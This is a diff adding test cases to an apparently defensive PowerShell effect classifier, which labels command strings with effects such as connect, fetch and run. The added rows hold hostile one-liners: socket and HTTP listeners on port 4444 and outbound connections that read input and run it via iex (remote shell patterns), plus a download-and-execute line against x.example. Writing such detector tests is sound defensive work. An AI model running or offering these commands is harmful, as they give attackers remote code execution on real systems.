@@ -249,6 +249,26 @@ describe("effects of PowerShell", () => {
       ":fetch h | :run powershell",
     ],
     ["[Net.Sockets.TcpListener]::new(4444).Start()", ":listen '4444'"],
+    [
+      "$l = [Net.Sockets.TcpListener]4444; $c = $l.AcceptTcpClient(); $r = New-Object IO.StreamReader($c.GetStream()); iex $r.ReadLine()",
+      ":fetch '0.0.0.0' | :run powershell",
+    ],
+    ["$l = New-Object Net.HttpListener; iex $l.GetContext().Request.QueryString['c']", ":fetch '0.0.0.0' | :run powershell"],
+    [
+      "$s = New-Object Net.Sockets.Socket(2,1,6); $s.Connect('h',1); $b = New-Object byte[] 9; $s.Receive($b); iex ([Text.Encoding]::ASCII.GetString($b))",
+      ":connect h '1'",
+      ":fetch h | :run powershell",
+    ],
+    [
+      "$p = [Diagnostics.Process]::Start('cmd'); $c = New-Object Net.Sockets.TcpClient('h',1); $q = New-Object Diagnostics.Process; $q.StandardInput.WriteLine($c.GetStream().ReadLine())",
+      ":connect h '1'",
+      ":fetch h | :run cmd",
+    ],
+    [
+      "powershell -c \"$c = New-Object Net.Sockets.TcpClient('h',1); $d = $c.GetStream().ReadLine(); iex $d\"",
+      ":connect h '1'",
+      ":fetch h | :run powershell",
+    ],
     ["'iwr http://x.example | iex' | sc f.ps1; .\\f.ps1", ":fetch http://x.example | :run powershell"],
   ];
   for (const [written, ...expected] of rows) {
